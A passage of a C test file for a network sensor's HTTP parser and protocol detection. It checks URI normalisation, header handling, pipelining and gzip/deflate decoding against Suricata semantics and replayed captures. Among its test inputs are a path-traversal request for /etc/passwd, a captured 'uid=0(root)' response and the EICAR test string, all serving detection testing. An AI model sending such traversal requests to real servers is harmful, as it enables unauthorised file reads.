/*
 * tests/test_http.c -- protocol detection (parsers/app/app.c), the HTTP/1.x
 * parser (parsers/app/http.c) and traffic as Sigma events
 * (parsers/app/app_event.c).
 *
 * HTTP streams are fed through canh_app_stream as the flow table would:
 * whole, split in two at every byte, and one byte at a time; the fields
 * reported must be the same each way. Real streams come from
 * suricata-verify captures (tests/data/http/README.md); the buffer
 * semantics checked are Suricata's (its keyword docs and those captures'
 * rules). Runs from the repository root.
 * Thread: Criterion runs each test in its own process.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "../engine/detect/match.h"
#include "../engine/detect/sigma.h"
#include "../parsers/app/app_internal.h"

/* ---------------------------------------------------------- collecting */

#define MAXTX 64

typedef struct got_tx {
    int dir, event_only;
    char *b[CANH_NB__COUNT];
    size_t n[CANH_NB__COUNT];
} got_tx_t;

typedef struct got {
    int ntx;
    got_tx_t tx[MAXTX];
} got_t;

static void collect(void *ud, canh_flow_t *f, const canh_app_tx_t *tx)
{
    (void)f;
    got_t *g = ud;
    cr_assert_lt(g->ntx, MAXTX);
    cr_assert_eq(tx->proto, CANH_APP_HTTP);
    got_tx_t *t = &g->tx[g->ntx++];
    t->dir = tx->dir;
    t->event_only = tx->event_only;
    for (int i = 0; i < CANH_NB__COUNT; i++) {
        if (!tx->buf[i].p)
            continue;
        t->b[i] = malloc(tx->buf[i].n + 1);
        memcpy(t->b[i], tx->buf[i].p, tx->buf[i].n);
        t->b[i][tx->buf[i].n] = 0;
        t->n[i] = tx->buf[i].n;
    }
}

static void got_free(got_t *g)
{
    for (int k = 0; k < g->ntx; k++)
        for (int i = 0; i < CANH_NB__COUNT; i++)
            free(g->tx[k].b[i]);
    memset(g, 0, sizeof *g);
}

static void got_same(const got_t *a, const got_t *b, const char *how)
{
    cr_assert_eq(a->ntx, b->ntx, "%s: %d tx, whole: %d", how, b->ntx, a->ntx);
    for (int k = 0; k < a->ntx; k++) {
        cr_assert_eq(a->tx[k].dir, b->tx[k].dir, "%s: tx %d dir", how, k);
        for (int i = 0; i < CANH_NB__COUNT; i++) {
            cr_assert_eq(!a->tx[k].b[i], !b->tx[k].b[i], "%s: tx %d %s set?", how, k,
                         canh_net_buffer_name(i));
            if (a->tx[k].b[i])
                cr_assert(a->tx[k].n[i] == b->tx[k].n[i] &&
                              memcmp(a->tx[k].b[i], b->tx[k].b[i], a->tx[k].n[i]) == 0,
                          "%s: tx %d %s differs: '%s' vs '%s'", how, k, canh_net_buffer_name(i),
                          b->tx[k].b[i], a->tx[k].b[i]);
        }
    }
}

typedef struct stream {
    const uint8_t *p;
    size_t n;
} stream_t;

/* c2s then s2c, each cut at the offsets in cuts (ascending, < n), then the
 * ends; returns the flow's protocol at the end. */
static canh_app_proto_t run(got_t *g, stream_t c2s, stream_t s2c, const size_t *cuts0,
                            size_t ncut0, const size_t *cuts1, size_t ncut1, size_t body_cap)
{
    canh_app_opts_t o = { .body_cap = body_cap };
    canh_app_t *a = canh_app_new(&o);
    cr_assert(a);
    stream_t s[2] = { c2s, s2c };
    const size_t *cuts[2] = { cuts0, cuts1 };
    size_t ncut[2] = { ncut0, ncut1 };
    for (int d = 0; d < 2; d++) {
        size_t at = 0;
        for (size_t k = 0; k <= ncut[d]; k++) {
            size_t e = k < ncut[d] ? cuts[d][k] : s[d].n;
            if (e > at) {
                /* a private copy: the parser must not keep pointers into it */
                uint8_t *tmp = malloc(e - at);
                memcpy(tmp, s[d].p + at, e - at);
                canh_app_stream(a, NULL, d, tmp, e - at, 0, collect, g);
                memset(tmp, 0xAA, e - at);
                free(tmp);
            }
            at = e;
        }
    }
    canh_app_stream(a, NULL, 0, NULL, 0, CANH_STREAM_END, collect, g);
    canh_app_stream(a, NULL, 1, NULL, 0, CANH_STREAM_END, collect, g);
    canh_app_proto_t p = canh_app_proto(a);
    canh_app_free(a);
    return p;
}

static canh_app_proto_t run_whole(got_t *g, const char *c2s, const char *s2c)
{
    stream_t a = { (const uint8_t *)c2s, strlen(c2s) }, b = { (const uint8_t *)s2c, strlen(s2c) };
    return run(g, a, b, NULL, 0, NULL, 0, 0);
}

static stream_t slurp(const char *path)
{
    FILE *f = fopen(path, "rb");
    cr_assert(f, "%s: run from the repository root", path);
    static uint8_t pool[4][1 << 17];   /* a test reads at most 4 files */
    static unsigned next;
    uint8_t *b = pool[next++ % 4];
    size_t n = fread(b, 1, sizeof pool[0], f);
    fclose(f);
    return (stream_t){ b, n };
}

/* Whole, cut in two at every byte of either side, and byte by byte: the
 * same transactions and fields each way. */
static void check_splits(stream_t c2s, stream_t s2c, size_t body_cap)
{
    got_t whole = { 0 }, g = { 0 };
    run(&whole, c2s, s2c, NULL, 0, NULL, 0, body_cap);
    cr_assert_gt(whole.ntx, 0);
    for (int d = 0; d < 2; d++) {
        size_t n = d ? s2c.n : c2s.n;
        for (size_t k = 1; k < n; k++) {
            run(&g, c2s, s2c, d ? NULL : &k, d ? 0 : 1, d ? &k : NULL, d ? 1 : 0, body_cap);
            char how[64];
            snprintf(how, sizeof how, "%s cut at %zu", d ? "s2c" : "c2s", k);
            got_same(&whole, &g, how);
            got_free(&g);
        }
    }
    size_t *all0 = malloc(sizeof(size_t) * (c2s.n + 1)), *all1 = malloc(sizeof(size_t) * (s2c.n + 1));
    for (size_t k = 1; k < c2s.n; k++)
        all0[k - 1] = k;
    for (size_t k = 1; k < s2c.n; k++)
        all1[k - 1] = k;
    run(&g, c2s, s2c, all0, c2s.n ? c2s.n - 1 : 0, all1, s2c.n ? s2c.n - 1 : 0, body_cap);
    got_same(&whole, &g, "byte by byte");
    got_free(&g);
    got_free(&whole);
    free(all0);
    free(all1);
}

#define B(t, id) ((t)->b[CANH_NB_##id])
#define ASSERT_BUF(t, id, want)                                                             \
    do {                                                                                    \
        cr_assert(B(t, id), #id " not set");                                                \
        cr_assert(strlen(want) == (t)->n[CANH_NB_##id] &&                                  \
                      memcmp(B(t, id), want, strlen(want)) == 0,                            \
                  #id ": got '%s', want '%s'", B(t, id), want);                             \
    } while (0)

/* ------------------------------------------------------------ detection */

Test(app_detect, tells_protocols_from_first_bytes)
{
    const uint8_t *u;
#define D(s, tcp, dir, port) canh_app_detect((const uint8_t *)(s), sizeof(s) - 1, tcp, dir, port)
    cr_assert_eq(D("GET / HTTP/1.1\r\n", 1, 0, 8080), CANH_APP_HTTP);
    cr_assert_eq(D("OPTIONS * HTTP/1.1\r\n", 1, 0, 80), CANH_APP_HTTP);
    cr_assert_eq(D("CONNECT a:443 HTTP/1.1", 1, 0, 80), CANH_APP_HTTP);
    cr_assert_eq(D("PROPFIND /x HTTP/1.1", 1, 0, 80), CANH_APP_HTTP);
    cr_assert_eq(D("HTTP/1.1 200 OK\r\n", 1, 1, 80), CANH_APP_HTTP);
    cr_assert_eq(D("GE", 1, 0, 80), -1, "a prefix: wait for more");
    cr_assert_eq(D("GET", 1, 0, 80), -1);
    cr_assert_eq(D("GETX / HTTP/1.1", 1, 0, 80), CANH_APP_UNKNOWN);
    cr_assert_eq(D("HTTP/1.1 200", 1, 0, 80), CANH_APP_UNKNOWN, "a response from the client");
    cr_assert_eq(D("SSH-2.0-OpenSSH_8.9\r\n", 1, 1, 2222), CANH_APP_SSH);
    cr_assert_eq(D("SSH", 1, 1, 22), -1);
    cr_assert_eq(D("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 1, 0, 8443), CANH_APP_TLS);
    cr_assert_eq(D("\x16\x03\x03\x00\x5a\x02\x00\x00\x56", 1, 1, 443), CANH_APP_TLS);
    cr_assert_eq(D("\x16\x03\x01\x02\x00\x0b", 1, 0, 443), CANH_APP_UNKNOWN, "not a hello");
    cr_assert_eq(D("\x16\x09", 1, 0, 443), CANH_APP_UNKNOWN);
    cr_assert_eq(D("hello world, nothing", 1, 0, 80), CANH_APP_UNKNOWN);
    /* DNS: a query for example.com A */
    static const char q[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                            "\x07" "example" "\x03" "com" "\x00" "\x00\x01\x00\x01";
    u = (const uint8_t *)q;
    cr_assert_eq(canh_app_detect(u, sizeof q - 1, 0, 0, 53), CANH_APP_DNS);
    cr_assert_eq(canh_app_detect(u, sizeof q - 1, 0, 0, 5300), CANH_APP_DNS, "well formed anywhere");
    cr_assert_eq(canh_app_detect(u, 20, 0, 0, 5300), CANH_APP_UNKNOWN, "cut question elsewhere");
    cr_assert_eq(D("\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d", 0, 0, 5300),
                 CANH_APP_UNKNOWN);
    uint8_t tq[2 + sizeof q - 1];
    tq[0] = 0;
    tq[1] = sizeof q - 1;
    memcpy(tq + 2, q, sizeof q - 1);
    cr_assert_eq(canh_app_detect(tq, sizeof tq, 1, 0, 53), CANH_APP_DNS, "TCP with its length");
#undef D
}

Test(app_names, buffers_and_protocols)
{
    cr_assert_str_eq(canh_net_buffer_name(CANH_NB_HTTP_URI), "http.uri");
    cr_assert_str_eq(canh_net_buffer_name(CANH_NB_SSH_SOFTWARE), "ssh.software");
    cr_assert_null(canh_net_buffer_name(-1));
    cr_assert_null(canh_net_buffer_name(CANH_NB__COUNT));
    for (int i = 0; i < CANH_NB__COUNT; i++) {
        const char *n = canh_net_buffer_name(i);
        cr_assert_eq(canh_net_buffer_lookup(n, strlen(n)), i, "%s", n);
    }
    cr_assert_eq(canh_net_buffer_lookup("http.uri.raw", 8), CANH_NB_HTTP_URI, "length counts");
    cr_assert_eq(canh_net_buffer_lookup("http.nope", 9), -1);
    cr_assert_eq(canh_net_buffer_lookup(NULL, 3), -1);
    cr_assert_str_eq(canh_app_proto_name(CANH_APP_HTTP), "http");
    cr_assert_str_eq(canh_app_proto_name(CANH_APP_DNS), "dns");
    cr_assert_str_eq(canh_app_proto_name(CANH_APP_TLS), "tls");
    cr_assert_str_eq(canh_app_proto_name(CANH_APP_SSH), "ssh");
}

Test(app_flow, held_prefix_then_told_and_counted)
{
    canh_app_counts_t before = *canh_app_thread_counts();
    canh_app_t *a = canh_app_new(NULL);
    got_t g = { 0 };
    canh_app_stream(a, NULL, 0, (const uint8_t *)"G", 1, 0, collect, &g);
    cr_assert_eq(canh_app_proto(a), CANH_APP_UNKNOWN);
    canh_app_stream(a, NULL, 0, (const uint8_t *)"ET /a HTTP/1.0\r\n\r\n", 18, 0, collect, &g);
    cr_assert_eq(canh_app_proto(a), CANH_APP_HTTP);
    cr_assert_eq(g.ntx, 1);
    ASSERT_BUF(&g.tx[0], HTTP_METHOD, "GET");
    ASSERT_BUF(&g.tx[0], HTTP_REQUEST_LINE, "GET /a HTTP/1.0");
    canh_app_free(a);
    const canh_app_counts_t *c = canh_app_thread_counts();
    cr_assert_eq(c->flows[CANH_APP_HTTP], before.flows[CANH_APP_HTTP] + 1);
    cr_assert_eq(c->http_requests, before.http_requests + 1);
    got_free(&g);

    /* neither side speaks anything known: unknown, counted once, no parser */
    a = canh_app_new(NULL);
    canh_app_stream(a, NULL, 0, (const uint8_t *)"\x00\x01\x02 binary junk here....", 24, 0,
                    collect, &g);
    canh_app_stream(a, NULL, 1, (const uint8_t *)"220 ftp ready\r\n", 15, 0, collect, &g);
    canh_app_stream(a, NULL, 0, (const uint8_t *)"GET / HTTP/1.1\r\n\r\n", 18, 0, collect, &g);
    cr_assert_eq(canh_app_proto(a), CANH_APP_UNKNOWN);
    cr_assert_eq(g.ntx, 0);
    cr_assert_eq(c->flows[CANH_APP_UNKNOWN], before.flows[CANH_APP_UNKNOWN] + 1);
    canh_app_free(a);
    canh_app_free(NULL);
}

/* ----------------------------------------------------- real captures */

Test(http_real, testmyids_fields_and_splits)
{
    stream_t c = slurp("tests/data/http/testmyids.c2s"), s = slurp("tests/data/http/testmyids.s2c");
    got_t g = { 0 };
    cr_assert_eq(run(&g, c, s, NULL, 0, NULL, 0, 0), CANH_APP_HTTP);
    cr_assert_eq(g.ntx, 2);
    got_tx_t *rq = &g.tx[0], *rs = &g.tx[1];
    cr_assert_eq(rq->dir, 0);
    ASSERT_BUF(rq, HTTP_METHOD, "GET");
    ASSERT_BUF(rq, HTTP_URI, "/");
    ASSERT_BUF(rq, HTTP_URI_RAW, "/");
    ASSERT_BUF(rq, HTTP_PROTOCOL, "HTTP/1.1");
    ASSERT_BUF(rq, HTTP_HOST, "www.testmyids.com");
    ASSERT_BUF(rq, HTTP_UA, "curl/7.43.0");
    ASSERT_BUF(rq, HTTP_HEADER,
               "Host: www.testmyids.com\r\nUser-Agent: curl/7.43.0\r\nAccept: */*\r\n");
    ASSERT_BUF(rq, HTTP_HEADER_NAMES, "\r\nHost\r\nUser-Agent\r\nAccept\r\n\r\n");
    ASSERT_BUF(rq, HTTP_HEADER_RAW,
               "Host: www.testmyids.com\r\nUser-Agent: curl/7.43.0\r\nAccept: */*\r\n\r\n");
    cr_assert_null(B(rq, HTTP_STAT_CODE));
    cr_assert_null(B(rq, HTTP_REQUEST_BODY));
    cr_assert_eq(rs->dir, 1);
    ASSERT_BUF(rs, HTTP_STAT_CODE, "200");
    ASSERT_BUF(rs, HTTP_STAT_MSG, "OK");
    ASSERT_BUF(rs, HTTP_RESPONSE_LINE, "HTTP/1.1 200 OK");
    ASSERT_BUF(rs, HTTP_SERVER, "Apache");
    ASSERT_BUF(rs, HTTP_CONTENT_LEN, "39");
    ASSERT_BUF(rs, HTTP_CONTENT_TYPE, "text/html");
    ASSERT_BUF(rs, HTTP_RESPONSE_BODY, "uid=0(root) gid=0(root) groups=0(root)\n");
    /* the response carries its request's fields, as Suricata's tx does */
    ASSERT_BUF(rs, HTTP_URI, "/");
    ASSERT_BUF(rs, HTTP_HOST, "www.testmyids.com");
    ASSERT_BUF(rs, HTTP_METHOD, "GET");
    got_free(&g);
    check_splits(c, s, 0);
}

Test(http_real, chunked_te_token_list)
{
    /* "Transfer-Encoding: ,\tchunked," is chunked (Suricata bug 6415); a
     * HEAD never answered in the capture: reported at the flow's end */
    stream_t c = slurp("tests/data/http/chunked.c2s"), s = { NULL, 0 };
    got_t g = { 0 };
    cr_assert_eq(run(&g, c, s, NULL, 0, NULL, 0, 0), CANH_APP_HTTP);
    cr_assert_eq(g.ntx, 2, "the request, then again for the access-log event");
    got_tx_t *rq = &g.tx[0];
    cr_assert_eq(rq->event_only, 0);
    cr_assert_eq(g.tx[1].event_only, 1);
    ASSERT_BUF(rq, HTTP_METHOD, "HEAD");
    ASSERT_BUF(rq, HTTP_URI, "/resources/fonts/SourceSansPro-Regular.ttf");
    ASSERT_BUF(rq, HTTP_HOST, "localhost");
    ASSERT_BUF(rq, HTTP_COOKIE, "X-Qlik-Session=13333333-3333-3333-3333-333333333337");
    /* http.header: every header but Cookie (the capture's sids 21-26, not 22) */
    cr_assert(strstr(B(rq, HTTP_HEADER), "Host: localhost\r\n"));
    cr_assert(strstr(B(rq, HTTP_HEADER), "X-Qlik-User: UserDirectory=internal;UserId=sa_repository\r\n"));
    cr_assert(strstr(B(rq, HTTP_HEADER), "Content-Length: 0\r\n"));
    cr_assert(strstr(B(rq, HTTP_HEADER), "Transfer-Encoding: ,\tchunked,\r\n"));
    cr_assert_null(strstr(B(rq, HTTP_HEADER), "Cookie"));
    cr_assert(strstr(B(rq, HTTP_HEADER_RAW), "Cookie: X-Qlik-Session"));
    cr_assert(strstr(B(rq, HTTP_HEADER_NAMES), "\r\nCookie\r\n"));
    got_free(&g);
    check_splits(c, s, 0);
}

Test(http_real, expect_100_continue)
{
    stream_t c = slurp("tests/data/http/multi100.c2s"), s = slurp("tests/data/http/multi100.s2c");
    got_t g = { 0 };
    canh_app_counts_t before = *canh_app_thread_counts();
    cr_assert_eq(run(&g, c, s, NULL, 0, NULL, 0, 0), CANH_APP_HTTP);
    cr_assert_eq(g.ntx, 2, "two interim 100s are not answers");
    got_tx_t *rq = &g.tx[0], *rs = &g.tx[1];
    ASSERT_BUF(rq, HTTP_METHOD, "POST");
    ASSERT_BUF(rq, HTTP_HOST, "10.25.10.120");
    ASSERT_BUF(rq, HTTP_HOST_RAW, "10.25.10.120:1551");
    ASSERT_BUF(rq, HTTP_CONTENT_LEN, "34498");
    cr_assert_eq(rq->n[CANH_NB_HTTP_REQUEST_BODY], 34498);
    cr_assert(memmem(B(rq, HTTP_REQUEST_BODY), 34498, "filename=\"otherhtp.pcap\"", 24));
    ASSERT_BUF(rs, HTTP_STAT_CODE, "200");
    ASSERT_BUF(rs, HTTP_SERVER, "Werkzeug/2.2.2 Python/3.8.10");
    ASSERT_BUF(rs, HTTP_RESPONSE_BODY, "file uploaded successfully\n");
    ASSERT_BUF(rs, HTTP_METHOD, "POST");
    cr_assert_eq(canh_app_thread_counts()->body_truncated, before.body_truncated);
    got_free(&g);

    /* a body cap: the request is reported once, its body cut at the cap */
    cr_assert_eq(run(&g, c, s, NULL, 0, NULL, 0, 1000), CANH_APP_HTTP);
    cr_assert_eq(g.ntx, 2);
    cr_assert_eq(g.tx[0].n[CANH_NB_HTTP_REQUEST_BODY], 1000);
    cr_assert_eq(memcmp(g.tx[0].b[CANH_NB_HTTP_REQUEST_BODY], c.p + (c.n - 34498), 1000), 0);
    ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, "file uploaded successfully\n");
    cr_assert_eq(canh_app_thread_counts()->body_truncated, before.body_truncated + 1);
    got_free(&g);
}

Test(http_real, expect_100_continue_splits, .timeout = 600)
{
    /* the cuts of the 34 KB body are many: check the header part and the
     * response at every byte, the body by the byte-by-byte run */
    stream_t c = slurp("tests/data/http/multi100.c2s"), s = slurp("tests/data/http/multi100.s2c");
    stream_t head = { c.p, 600 };
    got_t whole = { 0 }, g = { 0 };
    run(&whole, c, s, NULL, 0, NULL, 0, 0);
    for (size_t k = 1; k < head.n; k++) {
        run(&g, c, s, &k, 1, NULL, 0, 0);
        got_same(&whole, &g, "c2s head cut");
        got_free(&g);
    }
    for (size_t k = 1; k < s.n; k++) {
        run(&g, c, s, NULL, 0, &k, 1, 0);
        got_same(&whole, &g, "s2c cut");
        got_free(&g);
    }
    got_free(&whole);
}

Test(http_real, connect_tunnel)
{
    stream_t c = slurp("tests/data/http/connect.c2s"), s = slurp("tests/data/http/connect.s2c");
    got_t g = { 0 };
    cr_assert_eq(run(&g, c, s, NULL, 0, NULL, 0, 0), CANH_APP_HTTP);
    /* CONNECT and the GET inside the tunnel, each answered 200 */
    cr_assert_eq(g.ntx, 4);
    ASSERT_BUF(&g.tx[0], HTTP_METHOD, "CONNECT");
    ASSERT_BUF(&g.tx[0], HTTP_URI_RAW, "abc:443");
    ASSERT_BUF(&g.tx[0], HTTP_HOST, "abc");
    ASSERT_BUF(&g.tx[1], HTTP_METHOD, "GET");
    ASSERT_BUF(&g.tx[2], HTTP_STAT_CODE, "200");
    ASSERT_BUF(&g.tx[2], HTTP_METHOD, "CONNECT");
    ASSERT_BUF(&g.tx[3], HTTP_METHOD, "GET");
    ASSERT_BUF(&g.tx[3], HTTP_SERVER, "VictorServer/1.0");
    got_free(&g);
    check_splits(c, s, 0);

    /* TLS inside the tunnel ends parsing quietly: no parse error */
    canh_app_counts_t before = *canh_app_thread_counts();
    cr_assert_eq(run_whole(&g, "CONNECT h:443 HTTP/1.1\r\n\r\n\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00",
                           "HTTP/1.1 200 Connection established\r\n\r\n\x16\x03\x03\x00\x02\x02\x00"),
                 CANH_APP_HTTP);
    cr_assert_eq(canh_app_thread_counts()->parse_errors, before.parse_errors);
    got_free(&g);
}

/* ------------------------------------------------- Suricata semantics */

Test(http_buffers, uri_normalisation)
{
    static const struct { const char *raw, *norm; } v[] = {
        /* suricata-verify detect-http-uri UriTestSig25/33-38 */
        { "/normalized%20uri", "/normalized uri" },
        /* DetectEngineHttpRawUriTest01..: the raw keeps what the normalised drops */
        { "/../a/b/../c/./d.html", "/a/c/d.html" },
        { "/search?q=123&aq=7123abcee", "/search?q=123&aq=7123abcee" },
        { "//a///b", "/a/b" },
        { "/a/b/..", "/a/" },
        { "/a/./", "/a/" },
        { "/a%2fb", "/a/b" },
        { "/%2e%2e/etc/passwd", "/etc/passwd" },
        { "/p?x=%41%42&y=..%2F", "/p?x=AB&y=../" },
        { "/bad%zzpct%4", "/bad%zzpct%4" },
        { "http://Example.COM:8080/x/../y?z", "/y?z" },
        { "*", "*" },
    };
    for (size_t i = 0; i < sizeof v / sizeof v[0]; i++) {
        char req[256];
        snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: h\r\n\r\n", v[i].raw);
        got_t g = { 0 };
        run_whole(&g, req, "");
        cr_assert_geq(g.ntx, 1, "%s", v[i].raw);
        ASSERT_BUF(&g.tx[0], HTTP_URI, v[i].norm);
        ASSERT_BUF(&g.tx[0], HTTP_URI_RAW, v[i].raw);
        got_free(&g);
    }
}

Test(http_buffers, host_headers_folding_duplicates)
{
    got_t g = { 0 };
    run_whole(&g,
              "POST /f HTTP/1.1\r\n"
              "Host: WWW.Example.ORG:8080\r\n"
              "X-Long: one\r\n"
              "  two\r\n"
              "\tthree\r\n"
              "accept: a\r\n"
              "Cookie: c=1\r\n"
              "ACCEPT: b\r\n"
              "Referer: http://r/\r\n"
              "Content-Type: text/plain\r\n"
              "Content-Length: 5\r\n"
              "\r\n"
              "hello",
              "HTTP/1.0 302 Found\r\nLocation: /there\r\nSet-Cookie: s=2\r\n"
              "Content-Length: 0\r\n\r\n");
    cr_assert_eq(g.ntx, 2);
    got_tx_t *rq = &g.tx[0], *rs = &g.tx[1];
    ASSERT_BUF(rq, HTTP_HOST, "www.example.org");
    ASSERT_BUF(rq, HTTP_HOST_RAW, "WWW.Example.ORG:8080");
    ASSERT_BUF(rq, HTTP_COOKIE, "c=1");
    ASSERT_BUF(rq, HTTP_REFERER, "http://r/");
    ASSERT_BUF(rq, HTTP_CONTENT_TYPE, "text/plain");
    ASSERT_BUF(rq, HTTP_REQUEST_BODY, "hello");
    ASSERT_BUF(rq, HTTP_HEADER,
               "Host: WWW.Example.ORG:8080\r\n"
               "X-Long: one two three\r\n"
               "accept: a, b\r\n"
               "Referer: http://r/\r\n"
               "Content-Type: text/plain\r\n"
               "Content-Length: 5\r\n");
    ASSERT_BUF(rq, HTTP_HEADER_NAMES,
               "\r\nHost\r\nX-Long\r\naccept\r\nCookie\r\nACCEPT\r\nReferer\r\n"
               "Content-Type\r\nContent-Length\r\n\r\n");
    ASSERT_BUF(rs, HTTP_STAT_CODE, "302");
    ASSERT_BUF(rs, HTTP_STAT_MSG, "Found");
    ASSERT_BUF(rs, HTTP_PROTOCOL, "HTTP/1.0");
    ASSERT_BUF(rs, HTTP_LOCATION, "/there");
    ASSERT_BUF(rs, HTTP_COOKIE, "s=2");
    ASSERT_BUF(rs, HTTP_HEADER, "Location: /there\r\nContent-Length: 0\r\n");
    ASSERT_BUF(rs, HTTP_REQUEST_BODY, "hello");
    cr_assert_null(B(rs, HTTP_RESPONSE_BODY), "Content-Length: 0");
    got_free(&g);

    /* absolute-form: the target's host wins over Host (RFC 9112 3.2.2) */
    run_whole(&g, "GET http://user@Proxy.Example:3128/a?b HTTP/1.1\r\nHost: other\r\n\r\n", "");
    ASSERT_BUF(&g.tx[0], HTTP_HOST, "proxy.example");
    ASSERT_BUF(&g.tx[0], HTTP_HOST_RAW, "other");
    ASSERT_BUF(&g.tx[0], HTTP_URI, "/a?b");
    got_free(&g);

    /* IPv6 literal host */
    run_whole(&g, "GET / HTTP/1.1\r\nHost: [2001:DB8::1]:80\r\n\r\n", "");
    ASSERT_BUF(&g.tx[0], HTTP_HOST, "[2001:db8::1]");
    got_free(&g);
}

Test(http_pipelining, responses_match_requests_in_order)
{
    const char *c2s =
        "GET /one HTTP/1.1\r\nHost: a\r\n\r\n"
        "HEAD /two HTTP/1.1\r\nHost: a\r\n\r\n"
        "POST /three HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
        "4;ext=1\r\nWiki\r\n5\r\npedia\r\n0\r\nX-Trailer: t\r\n\r\n"
        "\r\n"   /* stray CRLF between messages (RFC 9112 2.2) */
        "GET /four HTTP/1.1\r\nHost: a\r\n\r\n";
    const char *s2c =
        "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc"
        "HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"     /* HEAD: no body */
        "HTTP/1.1 201 Created\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
        "3\r\nxyz\r\n0\r\n\r\n"
        "HTTP/1.1 404 Not Found\r\n\r\nno length: to the end";
    got_t g = { 0 };
    cr_assert_eq(run_whole(&g, c2s, s2c), CANH_APP_HTTP);
    cr_assert_eq(g.ntx, 8);
    static const char *uris[] = { "/one", "/two", "/three", "/four" };
    for (int k = 0; k < 4; k++) {
        ASSERT_BUF(&g.tx[k], HTTP_URI, uris[k]);
        cr_assert_eq(g.tx[k].dir, 0);
        cr_assert_eq(g.tx[4 + k].dir, 1);
        ASSERT_BUF(&g.tx[4 + k], HTTP_URI, uris[k]);
    }
    ASSERT_BUF(&g.tx[2], HTTP_REQUEST_BODY, "Wikipedia");
    ASSERT_BUF(&g.tx[4], HTTP_RESPONSE_BODY, "abc");
    cr_assert_null(B(&g.tx[5], HTTP_RESPONSE_BODY));
    ASSERT_BUF(&g.tx[5], HTTP_METHOD, "HEAD");
    ASSERT_BUF(&g.tx[6], HTTP_STAT_CODE, "201");
    ASSERT_BUF(&g.tx[6], HTTP_RESPONSE_BODY, "xyz");
    ASSERT_BUF(&g.tx[7], HTTP_STAT_CODE, "404");
    ASSERT_BUF(&g.tx[7], HTTP_RESPONSE_BODY, "no length: to the end");
    got_free(&g);
    stream_t a = { (const uint8_t *)c2s, strlen(c2s) }, b = { (const uint8_t *)s2c, strlen(s2c) };
    check_splits(a, b, 0);
    check_splits(a, b, 2);   /* tiny cap: every body cut, fields still the same each way */
}

Test(http_pipelining, many_requests_before_any_response)
{
    /* more requests than the queue holds: the oldest lose their fields in
     * the response, the count stays right, nothing crashes */
    char c2s[4096] = "", s2c[4096] = "";
    for (int k = 0; k < 10; k++) {
        char r[64];
        snprintf(r, sizeof r, "GET /r%d HTTP/1.1\r\n\r\n", k);
        strcat(c2s, r);
        strcat(s2c, "HTTP/1.1 204 No Content\r\n\r\n");
    }
    got_t g = { 0 };
    run_whole(&g, c2s, s2c);
    cr_assert_eq(g.ntx, 20);
    ASSERT_BUF(&g.tx[19], HTTP_URI, "/r9");
    ASSERT_BUF(&g.tx[19], HTTP_STAT_CODE, "204");
    cr_assert_null(B(&g.tx[10], HTTP_URI), "its request left the queue");
    got_free(&g);
}

/* ------------------------------------------------------------ encodings */

/* text compressed as windowBits says (31 gzip, 15 zlib, -15 raw) */
static size_t squeeze_n(const void *in, size_t n, int window_bits, uint8_t *out, size_t cap)
{
    z_stream z;
    memset(&z, 0, sizeof z);
    cr_assert_eq(deflateInit2(&z, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
    z.next_in = (Bytef *)in;
    z.avail_in = (uInt)n;
    z.next_out = out;
    z.avail_out = (uInt)cap;
    cr_assert_eq(deflate(&z, Z_FINISH), Z_STREAM_END);
    size_t got = z.total_out;
    deflateEnd(&z);
    return got;
}

static size_t squeeze(const char *text, int window_bits, uint8_t *out, size_t cap)
{
    return squeeze_n(text, strlen(text), window_bits, out, cap);
}

Test(http_encoding, gzip_and_deflate_bodies_decoded)
{
    const char *eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    static const struct { const char *coding; int bits; int chunked; } v[] = {
        { "gzip", 31, 0 }, { "x-gzip", 31, 1 }, { "deflate", 15, 0 },
        { "deflate", -15, 1 },      /* raw deflate sent as "deflate" */
        { "gzip", -15, 0 },
    };
    const char *rq = "GET /e HTTP/1.1\r\nHost: h\r\n\r\n";
    for (size_t i = 0; i < sizeof v / sizeof v[0]; i++) {
        uint8_t z[256];
        size_t zn = squeeze(eicar, v[i].bits, z, sizeof z);
        uint8_t resp[1024];
        size_t n;
        if (v[i].chunked) {
            n = (size_t)snprintf((char *)resp, sizeof resp,
                                 "HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\n"
                                 "Transfer-Encoding: chunked\r\n\r\n%zx\r\n", v[i].coding, zn);
            memcpy(resp + n, z, zn);
            n += zn;
            memcpy(resp + n, "\r\n0\r\n\r\n", 7);
            n += 7;
        } else {
            n = (size_t)snprintf((char *)resp, sizeof resp,
                                 "HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\n"
                                 "Content-Length: %zu\r\n\r\n", v[i].coding, zn);
            memcpy(resp + n, z, zn);
            n += zn;
        }
        stream_t a = { (const uint8_t *)rq, strlen(rq) }, b = { resp, n };
        got_t g = { 0 };
        run(&g, a, b, NULL, 0, NULL, 0, 0);
        cr_assert_eq(g.ntx, 2, "case %zu", i);
        ASSERT_BUF(&g.tx[1], HTTP_RESPONSE_BODY, eicar);
        got_free(&g);
        check_splits(a, b, 0);
        /* the cap bounds the decoded bytes */
        run(&g, a, b, NULL, 0, NULL, 0, 10);
        cr_assert_eq(g.tx[1].n[CANH_NB_HTTP_RESPONSE_BODY], 10);
        cr_assert_eq(memcmp(g.tx[1].b[CANH_NB_HTTP_RESPONSE_BODY], eicar, 10), 0);
        got_free(&g);
    }
    /* two layers: gzip, then deflate over it (Content-Encoding: gzip, deflate) */
    {
        uint8_t z1[256], z2[256], resp[1024];
        size_t n1 = squeeze(eicar, 31, z1, sizeof z1), n2 = squeeze_n(z1, n1, 15, z2, sizeof z2);
        size_t n = (size_t)snprintf((char *)resp, sizeof resp,
